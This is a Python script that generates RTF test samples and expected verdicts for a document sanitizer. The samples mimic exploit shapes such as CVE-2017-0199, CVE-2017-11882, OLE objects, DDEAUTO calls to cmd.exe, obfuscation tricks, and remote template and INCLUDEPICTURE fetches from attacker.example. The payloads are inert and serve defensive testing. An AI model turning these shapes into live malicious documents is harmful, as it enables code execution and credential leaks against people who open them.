#!/usr/bin/env python3
"""Write the hand-made RTF samples of tests/corpus/files/rtf/.

Stdlib only. Every sample starts with "{\\rt" so the engine detects RTF
by content. Each gets a sibling .expect (verdict and the findings that
must be present) for `sanso file sanitize`. The OLE payloads are inert:
an OLE1 header naming a class, then zeros; nothing here runs.
Run: python3 tests/corpus/gen/rtf.py
"""

import os
import struct

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)),
                   "..", "files", "rtf")


def write(name, data, verdict, findings=(), absent=(), comment=""):
    if isinstance(data, str):
        data = data.encode("latin-1")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    lines = ["# " + (comment or name)]
    lines.append("verdict " + verdict)
    for code, action in findings:
        lines.append("finding %s %s" % (code, action))
    for code in absent:
        lines.append("no-finding " + code)
    with open(os.path.join(OUT, name + ".expect"), "w") as f:
        f.write("\n".join(lines) + "\n")


def ole1(cls, size=64):
    """An OLE1 embedded-object header for class cls, then zero data."""
    name = cls.encode() + b"\0"
    return (struct.pack("<II", 0x501, 2) + struct.pack("<I", len(name)) +
            name + struct.pack("<II", 0, 0) + struct.pack("<I", size) +
            b"\0" * size)


def hexdata(b, width=64):
    h = b.hex()
    return "\r\n".join(h[i:i + width] for i in range(0, len(h), width))


HEAD = ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0\\fnil\\fcharset128 "
        "\\'82\\'6c\\'82\\'72 \\'96\\'be\\'92\\'a9;}}\r\n\\f0\\fs21 ")
# "日本語の文書" in Shift_JIS hex escapes
JP = "\\'93\\'fa\\'96\\'7b\\'8c\\'ea\\'82\\'cc\\'95\\'b6\\'8f\\'91"
PICT = "{\\pict\\wmetafile8\\picw100\\pich100 0100090000030000000000000000}"
RM = ("rtf.object", "removed")


def objects():
    write("object_package_objdata.rtf",
          HEAD + JP + "\\par {\\object\\objemb\\objw100\\objh100"
          "{\\*\\objclass Package}{\\*\\objdata\r\n" + hexdata(ole1("Package")) +
          "\r\n}{\\result " + PICT + "}}\\par after\\par}\r\n",
          "sanitized", [RM],
          comment="OLE Package object with objdata; the \\result picture stays")
    write("object_objautlink_objupdate.rtf",
          "{\\rtf1 {\\object\\objautlink\\objupdate\\rsltpict{\\*\\objclass "
          "Word.Document.8}{\\*\\objdata " + hexdata(ole1("OLE2Link")) +
          "}{\\result {\\rtlch " + PICT + "}}}\\par}",
          "sanitized", [RM],
          comment="CVE-2017-0199 shape: linked object that updates itself on open")
    # CVE-2017-11882: Equation.3 with objdata hex split by blanks, a
    # control word and a group, the way exploit kits write it.
    h = hexdata(ole1("Equation.3"), 16).replace("\r\n", " \\ltrch ")
    write("equation3_cve_2017_11882.rtf",
          "{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}"
          "\\objw380\\objh260{\\*\\objdata 01{\\*\\junk 05}" + h[2:] + "}}}",
          "sanitized", [RM],
          comment="Equation Editor object, objdata hex split with words and groups")
    write("objdata_mid_group_odd_case.rtf",
          "{\\rtf1 {\\rtlch keep \\ObjData 0105000002000000}"
          "{\\pict\\wmetafile8 0100{\\*\\objdata 0105}}text\\par}",
          "sanitized", [RM], absent=["rtf.malformed"],
          comment="\\objdata in odd case, mid-group and inside a picture")
    write("datastore.rtf",
          "{\\rtf1{\\*\\datastore 010500000200000018000000" + "00" * 40 +
          "}text\\par}",
          "sanitized", [RM],
          comment="\\datastore carries an OLE2 blob (COM loading in exploit chains)")
    write("object_in_header_rtf2.rtf",
          "{\\rtf2 Hello{\\object\\objocx{\\*\\objclass Forms.HTML:Image.1}"
          "{\\*\\oleclsid \\'7b5512D112-5CC6-11CF-8D67-00AA00BDCE1D\\'7d}"
          "{\\*\\objdata 0105}}\\par}",
          "sanitized", [RM],
          comment="\\rtf2 header (Word accepts any {\\rt) and an ActiveX object")


def fields():
    dde = ("rtf.dde", "removed")
    write("ddeauto_split.rtf",
          "{\\rtf1{\\field\\fldlock{\\*\\fldinst {\\rtlch\\fcs1 D}{\\b D}"
          "E\r\nAU\\'54O c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}"
          "{\\fldrslt {\\b shown text}}}\\par}",
          "sanitized", [dde],
          comment="DDEAUTO split across groups, a raw CRLF and a hex escape")
    write("dde_unicode_escaped.rtf",
          "{\\rtf1\\uc1{\\field{\\*\\fldinst \\u68 x\\u100 ?e \"cmd\" \"/c calc\"}"
          "{\\fldrslt r}}}",
          "sanitized", [dde],
          comment="DDE spelled with \\uN escapes and fallback characters")
    write("includetext.rtf",
          "{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT \"\\\\\\\\attacker\\\\share"
          "\\\\x.docx\"}{\\fldrslt old text}}{\\field{\\*\\fldinst "
          "INCLUDEPICTURE \"http://attacker.example/p.png\" \\\\d}"
          "{\\fldrslt " + PICT + "}}\\par}",
          "sanitized", [RM],
          comment="INCLUDETEXT and INCLUDEPICTURE pull outside content")
    write("macrobutton_nested_quote.rtf",
          "{\\rtf1{\\field{\\*\\fldinst MACROBUTTON AutoOpen click}"
          "{\\fldrslt click}}{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE "
          "68 68 69}{\\fldrslt DDE}}AUTO c:\\\\x}{\\fldrslt y}}"
          "{\\*\\formfield{\\*\\ffentrymcr AutoRun}}\\par}",
          "sanitized", [dde],
          comment="MACROBUTTON, a keyword computed by a nested QUOTE field, "
          "a form field entry macro")
    write("fldinst_object_only.rtf",
          "{\\rtf1{\\field{\\*\\fldin\xff{\\field{\\*\\fldinst QUOTE 68}"
          "{\\fldrslt D}}DE}{\\fldinst {\\object{\\result x}}}}}",
          "sanitized", [("rtf.object", "removed"), dde],
          comment="an instruction that is only an object: once the object "
          "goes the bare word left must be judged too (found by fuzz-rtf)")


def template():
    write("template_remote.rtf",
          "{\\rtf1\\ansi{\\*\\template http://attacker.example/t.dotm}"
          "Dear user\\par}",
          "sanitized", [("rtf.template", "removed")],
          comment="remote template injection (NTLM leak, macro template)")


def bin_tricks():
    payload = b"}}{\\object\\objdata 0105}"
    write("bin_hides_braces.rtf",
          b"{\\rtf1{\\pict\\wmetafile8\\bin" + str(len(payload)).encode() +
          b" " + payload + b"}{\\object\\objemb\\bin2 }}{\\*\\objdata 0105}}"
          b"text\\par}",
          "sanitized", [RM],
          comment="\\bin data holding braces: a brace counter that ignores "
          "\\bin misreads the groups")
    write("bin_outside_picture.rtf",
          b"{\\rtf1 text \\bin6 }{\\obj more}",
          "blocked", [("rtf.malformed", "blocked")],
          comment="\\bin data with RTF syntax bytes outside a picture")
    write("bin_count_overflow.rtf",
          b"{\\rtf1 \\bin4294967301 x}{\\object}}",
          "blocked", [("rtf.malformed", "blocked")],
          comment="\\bin count that wraps in 32 bits")


def malformed():
    mal = ("rtf.malformed", "blocked")
    write("unbalanced_open.rtf", "{\\rtf1{\\b bold\\par",
          "blocked", [mal], comment="groups never closed")
    write("unbalanced_close_trailing.rtf",
          "{\\rtf1 x}}{\\object{\\*\\objdata 0105}}",
          "blocked", [mal], comment="early close, then an object after the end")
    write("bad_hex_escape.rtf", "{\\rtf1 \\'}x}}",
          "blocked", [mal], comment="\\' not followed by two hex digits")
    write("overlong_control_word.rtf",
          "{\\rtf1 \\" + "a" * 300 + "object{\\*\\objdata 0105}}",
          "blocked", [mal],
          comment="control word longer than Word reads (255 letters)")
    depth = 600
    write("deep_nesting.rtf",
          "{\\rtf1 " + "{" * depth + "x" + "}" * depth + "}",
          "blocked", [("limit.rtf_depth", "blocked")],
          comment="groups nested deeper than limits.rtf_depth (512)")


def clean():
    write("clean_japanese.rtf",
          HEAD + JP + "\\par\r\n{\\field{\\*\\fldinst { PAGE }}{\\fldrslt 1}}"
          "{\\field{\\*\\fldinst HYPERLINK \"https://www.example.lg.jp/\"}"
          "{\\fldrslt link}}\\u26085?\\par " + PICT + "\\par}\r\n",
          "clean", absent=["rtf.object", "rtf.dde", "rtf.template"],
          comment="Shift_JIS text as \\'hh, harmless fields, a picture")
    write("clean_rt_header.rtf", "{\\rt Plain text\\par}",
          "clean", comment="\"{\\rt\" header alone: becomes {\\rtf1")


def main():
    os.makedirs(OUT, exist_ok=True)
    objects()
    fields()
    template()
    bin_tricks()
    malformed()
    clean()


if __name__ == "__main__":
    main()
